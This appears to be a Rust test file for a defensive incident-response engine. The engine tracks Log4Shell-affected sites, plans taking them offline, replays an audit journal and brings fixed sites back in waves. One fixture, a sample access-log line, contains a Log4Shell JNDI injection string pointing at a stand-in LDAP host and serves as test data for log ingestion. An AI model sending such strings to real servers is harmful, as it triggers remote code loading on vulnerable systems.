//! A whole register in a folder: ingest, ask, plan, execute, fence, replay.

use std::cell::Cell;
use std::io::Cursor;
use std::sync::Arc;

use relight_engine::edge::Target;
use relight_engine::incident::{Compromise, Entry, Evidence, EvidenceKind, Ledger, Phase};
use relight_engine::matching::{MATCHER_REVISION, Question};
use relight_engine::plan::{Action, PLAN_AGE_MAX_S, Plan, PlanAsk, PlanStale};
use relight_engine::store::{JOURNAL_LEASE, JournalDraft, SiteRow, Store};
use relight_engine::watch::Feed;
use relight_engine::waves::{AUTO_VAIN_MAX, Herds};
use relight_engine::{
    Engine, EngineError, EngineErrorKind, EngineOptions, FunctionalTest, INVENTORY_TTL_S,
    Inventory, LogReport, edges,
};
use relight_model::{
    Basis, Component, Criticality, Digest, Epoch, Flaw, FlawCode, GateKey, Light, Purl, Sbom,
    Scope, UnknownReason, Verdict,
};
use tempfile::TempDir;

use crate::edge::{builtin, key};
use crate::waves_end::not_back;

pub(crate) const LOG4SHELL: &str = "CVE-2021-44228";

/// Fixed in 2.17.0 only: 2.16.0 is clear of Log4Shell and has this one.
pub(crate) const RECURSION: &str = "CVE-2021-45105";

thread_local! {
    /// Each test runs on its own thread and so has its own time.
    static NOW_MS: Cell<i64> = const { Cell::new(1_639_137_600_000) };
}

pub(crate) fn clock() -> i64 {
    NOW_MS.get()
}

pub(crate) fn pass(seconds: i64) {
    NOW_MS.set(NOW_MS.get() + seconds * 1_000);
}

/// A register and the folder that it lives in.
pub(crate) struct Town {
    pub(crate) engine: Engine,
    pub(crate) folder: TempDir,
}

impl Town {
    /// A register with `count` sites on one edge and nothing known about them.
    pub(crate) fn new(count: usize) -> Self {
        // In memory where there is a folder for that: some trials wait for answers meanwhile, and
        // on a busy disk each commit waits for everybody else's.
        let folder = tempfile::tempdir_in("/dev/shm").or_else(|_| tempfile::tempdir());
        Self::at(folder.unwrap(), count)
    }

    /// The same in a folder of the caller's choice.
    pub(crate) fn at(folder: TempDir, count: usize) -> Self {
        let rows: Vec<SiteRow> = (0..count).map(|number| row(number, &name(number))).collect();
        Self::of(folder, &rows)
    }

    /// A register of these sites.
    pub(crate) fn of(folder: TempDir, rows: &[SiteRow]) -> Self {
        let store = Store::open(folder.path()).unwrap();
        let plan = store.plan_import(rows).unwrap();
        store.apply_import(&plan, clock() / 1_000, "test").unwrap();
        let gate = folder.path().join("gate");
        let target = Target { gate, ..builtin(folder.path(), "east") };
        store.put_edge(&edges::to_row(&target).unwrap(), 0, "test").unwrap();
        Self { engine: open(&Arc::new(store), "first").unwrap(), folder }
    }

    pub(crate) fn ingest(&self, site: usize, sbom: Sbom) {
        let observed_at = self.engine.now();
        let inventory = Inventory { site: key(&name(site)), sbom, observed_at, profiles: None };
        self.engine.ingest("scanner", &[inventory], EvidenceKind::Scan).unwrap();
    }

    pub(crate) fn incident(&self, id: &str) -> String {
        self.engine.open_incident("A. Tremblay", id, "demo").unwrap()
    }

    pub(crate) fn plan(&self, action: Action, sites: &[usize]) -> Plan {
        let ask = PlanAsk {
            incident: LOG4SHELL.into(),
            action,
            part: None,
            reason: "as a precaution".into(),
            advisory_revision: Digest::default(),
            policy: Digest::default(),
            proposer: "A. Tremblay".into(),
            created: self.engine.now(),
        };
        let sites: Vec<GateKey> = sites.iter().map(|site| key(&name(*site))).collect();
        self.engine.plan(ask, &sites).unwrap()
    }

    pub(crate) fn darken(&self, sites: &[usize]) {
        let plan = self.plan(Action::Dark, sites);
        self.engine.execute(&plan, "A. Tremblay").unwrap();
    }

    fn log(&self, bytes: Vec<u8>) -> Result<LogReport, EngineError> {
        let org = self.engine.organisations().unwrap()[0].id;
        self.engine.ingest_log(&Feed { org, ..Feed::default() }, Cursor::new(bytes))
    }

    pub(crate) fn phase(&self, id: &str, site: usize) -> Option<Phase> {
        self.engine.phase(id, &key(&name(site)))
    }

    pub(crate) fn ledger(&self) -> Ledger {
        self.engine.with_ledger(Ledger::clone)
    }

    /// The kinds of the journal, in order.
    pub(crate) fn journal(&self) -> Vec<String> {
        let records = self.engine.store().journal(1).unwrap();
        records.into_iter().map(|record| record.kind).collect()
    }

    fn refuse(&self, plan: &Plan) -> EngineErrorKind {
        let before = self.journal();
        let refused = self.engine.execute(plan, "A. Tremblay").unwrap_err();
        assert_eq!(self.journal(), before, "a stale plan was journalled");
        refused.kind
    }
}

pub(crate) fn open(store: &Arc<Store>, holder: &str) -> Result<Engine, EngineError> {
    let options = EngineOptions { holder: holder.into(), clock, inventory_ttl_s: INVENTORY_TTL_S };
    Engine::open(Arc::clone(store), options)
}

pub(crate) fn name(number: usize) -> String {
    format!("site-{number:04}")
}

pub(crate) fn row(number: usize, slug: &str) -> SiteRow {
    SiteRow {
        line: number + 1,
        slug: key(slug),
        name_fr: format!("Service {number}"),
        name_en: format!("Service {number}"),
        origin: format!("https://{slug}.example"),
        organisation: "Ville de Clairbourg".into(),
        sector: "municipal".into(),
        criticality: Criticality::Essential,
        exposure: None,
        aliases: None,
        parts: None,
        channel_fr: None,
        channel_en: None,
        edge: "east".into(),
        public: true,
    }
}

/// A complete inventory of one artifact with this version of log4j-core in it.
pub(crate) fn log4j(version: &str) -> Sbom {
    let evidence = format!("app.war!/WEB-INF/lib/log4j-core-{version}.jar");
    let purl = Purl::new("maven", "org.apache.logging.log4j", "log4j-core", version);
    let (basis, scope) = (Basis::PomProperties, Scope::Installed);
    let artifact = version.bytes().fold(1_u8, |sum, byte| sum.wrapping_mul(31).wrapping_add(byte));
    Sbom {
        components: vec![Component::new(purl, evidence, basis, scope)],
        flaws: Vec::new(),
        artifact: Some(Digest([artifact; 32])),
        images: Vec::new(),
        tool: "relight test".into(),
    }
}

/// The same, with something in it that could not be read.
fn unreadable() -> Sbom {
    let flaw = Flaw { code: FlawCode::Encrypted, evidence: "secret.zip".into(), bytes: 9 };
    Sbom { components: Vec::new(), flaws: vec![flaw], ..log4j("0") }
}

/// Programs that do not say what they were built from make unknown what they can hide, and nothing
/// else.
#[test]
fn a_program_without_a_list_hides_packages_of_its_own_kind_only() {
    let town = Town::new(1);
    let flaw = Flaw { code: FlawCode::RustUnlisted, evidence: "bin/x".into(), bytes: 0 };
    town.ingest(0, Sbom { flaws: vec![flaw], ..log4j("2.17.1") });
    let ask = |text: &str| {
        let answers = town.engine.ask(&Question::parse(text).unwrap());
        (answers.count(Verdict::Clear), answers.count(Verdict::Unknown))
    };
    assert_eq!([ask(LOG4SHELL), ask("pkg:npm/x")], [(1, 0); 2]);
    assert_eq!([ask("pkg:cargo/x"), ask("x")], [(0, 1); 2]);
    let reasons = town.engine.ask(&Question::parse("pkg:cargo/x").unwrap()).first_reasons();
    assert_eq!(reasons.get(&UnknownReason::NotObservable), Some(&1));
}

fn proved(site: usize, light: Light) -> (String, Entry) {
    let (sites, edge) = (vec![key(&name(site))], "east".to_owned());
    (LOG4SHELL.into(), Entry::Proved { sites, light, edge, epoch: Epoch::default() })
}

#[test]
fn every_site_answers_affected_clear_or_unknown_and_says_why() {
    let town = Town::new(5);
    town.ingest(0, log4j("2.14.1"));
    town.ingest(1, log4j("2.17.1"));
    town.ingest(2, unreadable());
    town.ingest(3, log4j("2.17.1"));
    let ask = || town.engine.ask(&Question::parse(LOG4SHELL).unwrap());
    let count = |verdict| ask().count(verdict);
    let counts = [Verdict::Affected, Verdict::Clear, Verdict::Unknown].map(count);
    assert_eq!(counts, [1, 2, 2]);
    let reasons = ask().first_reasons();
    assert_eq!(reasons.get(&UnknownReason::PartialEncrypted), Some(&1));
    assert_eq!(reasons.get(&UnknownReason::NeverInventoried), Some(&1));
    pass(INVENTORY_TTL_S + 1);
    assert_eq!((count(Verdict::Affected), count(Verdict::Clear)), (1, 0));
    assert_eq!(ask().first_reasons().get(&UnknownReason::Stale), Some(&3));
}

#[test]
fn a_dry_run_changes_nothing_and_its_hash_is_what_is_executed() {
    let town = Town::new(3);
    town.ingest(0, log4j("2.14.1"));
    town.incident(LOG4SHELL);
    let before = town.journal();
    let plan = town.plan(Action::Dark, &[1, 0]);
    let again = town.plan(Action::Dark, &[0, 1]);
    assert_eq!(plan.hash().unwrap(), again.hash().unwrap());
    assert_eq!(plan.edges, ["east"]);
    assert_eq!(plan.sites[0].verdict, "affected");
    assert_eq!((town.journal(), town.phase(LOG4SHELL, 0)), (before, None));
    pass(60);
    town.engine.execute(&plan, "A. Tremblay").unwrap();
    assert_eq!(town.journal().last().map(String::as_str), Some("dark-ordered"));
    let body = &town.engine.store().journal(1).unwrap().last().unwrap().body.clone();
    let Entry::DarkOrdered { plan: hash, sites, .. } = Entry::from_body(body).unwrap() else {
        panic!("{body}");
    };
    assert_eq!((hash, sites), (plan.hash().unwrap(), plan.keys()));
    assert_eq!(town.phase(LOG4SHELL, 2), None);
}

#[test]
fn a_plan_of_another_world_names_what_changed() {
    let town = Town::new(2);
    town.ingest(0, log4j("2.17.1"));
    town.incident(LOG4SHELL);
    let stale = |field| EngineErrorKind::Stale(PlanStale::Differs(field));
    let plan = town.plan(Action::Dark, &[0]);
    assert_eq!(
        town.refuse(&Plan { proposer: "B".into(), edges: vec![], ..plan.clone() }),
        stale("edges")
    );
    let plan = town.plan(Action::Dark, &[0]);
    let revised = Entry::Revised { revision: Digest([9; 32]), statements: Digest::default() };
    town.engine.record("feed", LOG4SHELL, revised).unwrap();
    assert_eq!(town.refuse(&plan), stale("advisory_revision"));
    let plan = town.plan(Action::Dark, &[0]);
    pass(PLAN_AGE_MAX_S);
    assert_eq!(town.refuse(&plan), EngineErrorKind::Stale(PlanStale::Expired));
    let plan = town.plan(Action::Dark, &[0, 1]);
    town.darken(&[0]);
    assert_eq!(town.refuse(&plan), stale("sites"));
    assert_eq!(town.plan(Action::Dark, &[0]).skipped[0].reason, "already-so");
}

#[test]
fn a_journal_replays_to_the_same_ledger_and_verifies() {
    let town = Town::new(4);
    town.incident(LOG4SHELL);
    town.darken(&[0, 1, 2]);
    town.ingest(0, log4j("2.14.1"));
    town.ingest(1, log4j("2.17.1"));
    town.engine.append("relight", vec![proved(1, Light::Dark), proved(3, Light::Dark)]).unwrap();
    assert_eq!(town.engine.relight_ready().unwrap(), 1);
    town.engine.append("relight", vec![proved(1, Light::Lit)]).unwrap();
    let phases = [0, 1, 2, 3].map(|site| town.phase(LOG4SHELL, site));
    let dark = Some(Phase::DarkRequested);
    assert_eq!(phases, [Some(Phase::Affected), Some(Phase::RelitProven), dark, None]);
    let verified = town.engine.store().verify_journal().unwrap().unwrap();
    assert_eq!(verified.entries, town.journal().len() as u64);
    let (ledger, path) = (town.ledger(), town.folder.path().to_owned());
    let store = Arc::new(Store::open(&path).unwrap());
    assert_eq!(open(&store, "second").unwrap().with_ledger(Ledger::clone), ledger);
}

/// Goal: a new version that matches in another way still opens the register of the old one, and
/// trusts none of its evidence. Method: a journal as the old version wrote it, entry by entry.
#[test]
fn a_journal_of_an_older_matcher_replays_and_its_evidence_is_no_longer_current() {
    let town = Town::new(1);
    town.incident(LOG4SHELL);
    town.darken(&[0]);
    town.ingest(0, log4j("2.17.1"));
    let (site, now) = (key(&name(0)), town.engine.now());
    let evidence = town.ledger().incident(LOG4SHELL).unwrap().case(&site).unwrap().evidence.clone();
    let evidence = Evidence { matcher_revision: MATCHER_REVISION + 1, ..evidence.unwrap() };
    let id = evidence.id().unwrap();
    let store = town.engine.store();
    let lease = store.take_lease(JOURNAL_LEASE, "older", now).unwrap();
    let entries = [
        Entry::EvidenceAttached { evidence },
        Entry::RelightStarted { site: site.clone(), evidence: id },
        proved(0, Light::Lit).1,
    ];
    let drafts = entries.map(|entry| JournalDraft {
        time: now,
        actor: "older".into(),
        kind: entry.kind().into(),
        incident: LOG4SHELL.into(),
        body: entry.to_body().unwrap(),
    });
    store.append(&lease, &drafts).unwrap();
    let newer = open(store, "newer").unwrap();
    assert_eq!(newer.phase(LOG4SHELL, &site), Some(Phase::RelitProven));
    assert!(!newer.with_ledger(|ledger| ledger.permits(&site, now)));
}

#[test]
fn of_two_engines_on_one_register_the_older_is_fenced() {
    let town = Town::new(1);
    town.incident(LOG4SHELL);
    let newer = open(town.engine.store(), "second").unwrap();
    let before = (town.ledger(), town.journal());
    let order = Entry::DarkOrdered {
        plan: Digest::default(),
        sites: vec![key(&name(0))],
        reason: "as a precaution".into(),
    };
    let fenced = town.engine.record("A. Tremblay", LOG4SHELL, order.clone()).unwrap_err();
    assert_eq!(fenced.kind, EngineErrorKind::Fenced);
    assert_eq!((town.ledger(), town.journal()), before);
    newer.record("A. Tremblay", LOG4SHELL, order).unwrap();
}

#[test]
fn a_refused_entry_is_journalled_as_refused_and_changes_nothing() {
    let town = Town::new(1);
    town.incident(LOG4SHELL);
    let before = town.ledger();
    let entry = Entry::VerificationStarted { site: key(&name(0)) };
    let refused = town.engine.record("A. Tremblay", LOG4SHELL, entry).unwrap_err();
    assert!(matches!(refused.kind, EngineErrorKind::Rejected(_)), "{refused}");
    assert_eq!((town.journal(), town.ledger()), (vec!["opened".into(), "refused".into()], before));
    assert_eq!(
        open(town.engine.store(), "second").unwrap().with_ledger(Ledger::clone),
        town.ledger()
    );
}

#[test]
fn relight_needs_clear_evidence_and_no_other_incident_against_it() {
    let town = Town::new(2);
    town.incident(LOG4SHELL);
    town.darken(&[0, 1]);
    town.ingest(0, log4j("2.16.0"));
    assert_eq!(town.phase(LOG4SHELL, 0), Some(Phase::RelightEligible));
    let plan = town.plan(Action::Relight, &[0, 1]);
    assert_eq!(plan.keys(), [key(&name(0))]);
    assert_eq!(plan.skipped[0].reason, "no-clear-evidence");
    town.incident(RECURSION);
    town.ingest(0, log4j("2.16.0"));
    assert_eq!(town.phase(RECURSION, 0), Some(Phase::Affected));
    let before = town.journal();
    assert_eq!(town.engine.relight_ready().unwrap(), 0);
    assert_eq!(town.engine.relight_ready().unwrap(), 0);
    assert_eq!(town.journal(), before, "each look at a site that is held fills the journal");
}

#[test]
fn a_site_of_two_incidents_comes_back_when_both_are_clear() {
    let town = Town::new(1);
    for id in [LOG4SHELL, RECURSION] {
        town.incident(id);
        let order = Entry::DarkOrdered {
            plan: Digest::default(),
            sites: vec![key(&name(0))],
            reason: "as a precaution".into(),
        };
        town.engine.record("A. Tremblay", id, order).unwrap();
    }
    town.ingest(0, log4j("2.17.1"));
    assert_eq!(town.engine.relight_ready().unwrap(), 2);
    assert_eq!(town.ledger().wants(&key(&name(0))), Light::Lit);
}

/// Found by the model: a deployment that was reported before the incident knew the site, and a scan
/// of before it whose result came last. The register knows what the incident was not told.
#[test]
fn a_scan_of_before_a_deployment_says_nothing_about_what_runs_now() {
    for later_s in [0, 60] {
        let town = Town::new(1);
        town.incident(LOG4SHELL);
        let observed_at = town.engine.now();
        pass(later_s);
        let site = key(&name(0));
        town.engine.report_deployed("deployer", &site, Digest([7; 32])).unwrap();
        pass(60);
        town.darken(&[0]);
        let clear = log4j("2.17.1");
        let late =
            Inventory { site: site.clone(), sbom: clear.clone(), observed_at, profiles: None };
        town.engine.ingest("scanner", &[late], EvidenceKind::Scan).unwrap();
        assert_eq!(town.engine.relight_ready().unwrap(), 0, "{later_s}");
        assert_eq!(town.ledger().wants(&site), Light::Dark, "{later_s}");
        // A scan of what was deployed does say something.
        let observed_at = town.engine.now();
        let sbom = Sbom { artifact: Some(Digest([7; 32])), ..clear };
        let fresh = Inventory { site: site.clone(), sbom, observed_at, profiles: None };
        town.engine.ingest("scanner", &[fresh], EvidenceKind::Scan).unwrap();
        assert_eq!(town.engine.relight_ready().unwrap(), 1, "{later_s}");
    }
}

#[test]
fn a_deployment_voids_evidence_and_a_fix_needs_its_functional_test() {
    let town = Town::new(2);
    town.incident(LOG4SHELL);
    town.darken(&[0, 1]);
    town.ingest(0, log4j("2.17.1"));
    town.ingest(1, log4j("2.14.1"));
    pass(60);
    for site in [0, 1] {
        town.engine.report_deployed("deployer", &key(&name(site)), Digest([7; 32])).unwrap();
    }
    assert_eq!(town.phase(LOG4SHELL, 0), Some(Phase::Unknown));
    assert_eq!(town.phase(LOG4SHELL, 1), Some(Phase::FixDeployed));
    let sbom = Sbom { artifact: Some(Digest([7; 32])), ..log4j("2.17.1") };
    let (site, observed_at) = (key(&name(1)), town.engine.now());
    let inventory = Inventory { site, sbom, observed_at, profiles: None };
    let test = FunctionalTest { uri: "/".into(), status: 200, text: String::new() };
    let passed = town.engine.verify("tester", LOG4SHELL, &inventory, &test, Compromise::NoSigns);
    assert!(!passed.unwrap(), "an edge without a verification path passes nothing");
    assert_eq!(town.phase(LOG4SHELL, 1), Some(Phase::Affected));
    assert_eq!(town.engine.relight_ready().unwrap(), 0);
    let skipped = town.plan(Action::Relight, &[1]).skipped;
    assert_eq!(skipped[0].reason, "not-verified-yet", "it is clear");
}

#[test]
fn what_nobody_registered_is_not_found() {
    let town = Town::new(1);
    let missing = town.engine.open_incident("A. Tremblay", "CVE-1999-0001", "demo").unwrap_err();
    assert_eq!(missing.kind, EngineErrorKind::NotFound);
    let (site, observed_at) = (key("nowhere"), town.engine.now());
    let inventory = Inventory { site, sbom: log4j("2.14.1"), observed_at, profiles: None };
    let missing = town.engine.ingest("scanner", &[inventory], EvidenceKind::Scan).unwrap_err();
    assert_eq!(missing.kind, EngineErrorKind::NotFound);
    let missing = town.engine.relight("A. Tremblay", "CVE-1999-0001", &[]).unwrap_err();
    assert_eq!(missing.kind, EngineErrorKind::NotFound);
}

const LINE: &str = "192.0.2.7 - - [10/Dec/2021:12:00:00 +0000] \"GET /?q=${jndi:ldap://x.test/a} \
                    HTTP/1.1\" 200 12 \"-\" \"curl/7.74.0\"\n";

#[test]
fn the_same_log_twice_changes_nothing_however_it_is_packed() {
    let town = Town::new(1);
    let plain = LINE.repeat(3).into_bytes();
    let gzip = {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        std::io::Write::write_all(&mut encoder, &plain).unwrap();
        encoder.finish().unwrap()
    };
    let zstd = zstd::encode_all(plain.as_slice(), 1).unwrap();
    let read = |bytes: Vec<u8>| town.log(bytes).unwrap();
    let first = read(plain.clone());
    assert_eq!((first.tally.lines, first.tally.events, first.known), (3, 3, 0));
    let windows = town.engine.store().windows().unwrap();
    assert_eq!(windows.len(), 1);
    for again in [plain, gzip, zstd] {
        let report = read(again);
        assert_eq!((report.tally.lines, report.segments, report.known), (3, 1, 1));
        assert_eq!(town.engine.store().windows().unwrap(), windows);
    }
}

#[test]
fn lines_that_are_no_events_are_counted_with_the_number_of_the_first() {
    let town = Town::new(1);
    let mut log = LINE.as_bytes().to_vec();
    log.extend(b"\xff\xfe\x00\x01 binary\n\x80\x81\n");
    log.extend(LINE.as_bytes());
    let report = town.log(log).unwrap();
    assert_eq!((report.tally.lines, report.tally.events), (4, 2));
    assert_eq!(report.tally.refused.values().map(|(count, _)| count).sum::<u64>(), 2);
    assert_eq!(report.tally.refused.values().map(|(_, first)| *first).min(), Some(2));
    assert!(town.log(b"\x1f\x8b\x08\x00".to_vec()).is_err(), "half a gzip header");
}

/// A record of our own that widens Log4Shell to every version: such a record only adds.
const WIDER: &str = r#"{"id":"RLT-test-2021-0001","modified":"2021-12-18T00:00:00Z",
"aliases":["CVE-2021-44228"],
"affected":[{"package":{"ecosystem":"Maven","name":"org.apache.logging.log4j:log4j-core"},
"ranges":[{"type":"ECOSYSTEM","events":[{"introduced":"0"}]}]}]}"#;

/// Goal: evidence dies with a newer revision, whoever brings it and whenever the engine learns.
#[test]
fn a_changed_advisory_is_journalled_and_every_site_is_matched_again() {
    let town = Town::new(3);
    town.ingest(0, log4j("2.14.1"));
    town.ingest(1, log4j("2.17.1"));
    town.incident(LOG4SHELL);
    let sites = [0, 1, 2].map(|site| key(&name(site)));
    town.engine.attach_evidence("test", LOG4SHELL, &sites[..2], EvidenceKind::Scan).unwrap();
    assert_eq!(town.phase(LOG4SHELL, 1), Some(Phase::Online));
    let before = town.ledger().incident(LOG4SHELL).unwrap().revision;
    let record = relight_engine::store::RawAdvisory {
        id: "RLT-test-2021-0001",
        revision: Digest([7; 32]),
        bytes: WIDER.as_bytes(),
        recorded_at: town.engine.now(),
    };
    town.engine.store().put_advisories("test", &[record]).unwrap();
    pass(1);
    town.engine.reload().unwrap();
    assert_ne!(town.ledger().incident(LOG4SHELL).unwrap().revision, before);
    assert_eq!(town.phase(LOG4SHELL, 1), Some(Phase::Affected), "clear under the old revision");
    let store = Arc::clone(town.engine.store());
    let journal = town.journal().len();
    let again = open(&store, "second").unwrap();
    assert_eq!(again.phase(LOG4SHELL, &sites[1]), Some(Phase::Affected));
    assert_eq!(town.journal().len(), journal, "the same revision is not journalled twice");
}

#[test]
fn a_plan_names_the_sites_that_it_does_not_know() {
    let town = Town::new(1);
    town.incident(LOG4SHELL);
    let plan = town.plan(Action::Dark, &[0, 8]);
    assert_eq!(plan.sites.len(), 1);
    assert_eq!(plan.skipped[0].reason, "not-registered");
}

/// Goal: a herd comes back a few at a time and then more, and many that do not come back stop the
/// rest; a few that do not are nobody else's trouble. Method: the journal alone, without an edge.
#[test]
fn what_is_clear_comes_back_in_growing_groups_until_many_do_not() {
    let town = Town::new(260);
    town.incident(LOG4SHELL);
    let all: Vec<usize> = (0..260).collect();
    town.darken(&all);
    all.iter().for_each(|site| town.ingest(*site, log4j("2.17.1")));
    let in_phase = |phase: Phase| -> Vec<GateKey> {
        let sites = all.iter().map(|site| key(&name(*site)));
        sites.filter(|site| town.engine.phase(LOG4SHELL, site) == Some(phase)).collect()
    };
    let tell = |entry: Entry| town.engine.record("relight", LOG4SHELL, entry).unwrap();
    let proved = |sites: Vec<GateKey>| Entry::Proved {
        sites,
        light: Light::Lit,
        edge: "east".into(),
        epoch: Epoch::default(),
    };
    let mut groups = Vec::new();
    for _ in 0..2 {
        groups.push(town.engine.relight_ready().unwrap());
        assert_eq!(town.engine.relight_ready().unwrap(), 0, "they are on their way");
        tell(proved(in_phase(Phase::Relighting)));
    }
    // Nine of the next group do not come back: that is theirs alone.
    groups.push(town.engine.relight_ready().unwrap());
    let under_way = in_phase(Phase::Relighting);
    tell(not_back(under_way[..AUTO_VAIN_MAX - 1].to_vec()));
    tell(proved(under_way[AUTO_VAIN_MAX - 1..under_way.len() - 1].to_vec()));
    assert_eq!(groups, [10, 40, 200]);
    assert_eq!(town.engine.relight_ready().unwrap(), 10, "the rest");
    // One more: it is the edge.
    tell(not_back(in_phase(Phase::Relighting)[..9].to_vec()));
    assert_eq!(town.engine.relight_ready().unwrap(), 0);
}

/// What waits is counted, and a person can still open it.
#[test]
fn an_error_stop_leaves_the_rest_to_a_person() {
    let town = Town::new(30);
    town.incident(LOG4SHELL);
    let all: Vec<usize> = (0..30).collect();
    town.darken(&all);
    all.iter().for_each(|site| town.ingest(*site, log4j("2.17.1")));
    assert_eq!(town.engine.relight_ready().unwrap(), 10);
    let under_way = all.iter().map(|site| key(&name(*site)));
    let under_way =
        under_way.filter(|site| town.engine.phase(LOG4SHELL, site) == Some(Phase::Relighting));
    let sites: Vec<GateKey> = under_way.collect();
    town.engine.record("relight", LOG4SHELL, not_back(sites)).unwrap();
    assert_eq!(town.engine.relight_ready().unwrap(), 0);
    let ledger = town.ledger();
    let herds = Herds::of_sites(ledger.incident(LOG4SHELL).unwrap(), |_| "east");
    assert_eq!(herds.waiting(), 20);
    let by_hand = town.engine.relight("Zoe", LOG4SHELL, &[key(&name(29))]).unwrap();
    assert_eq!(by_hand, 1);
}
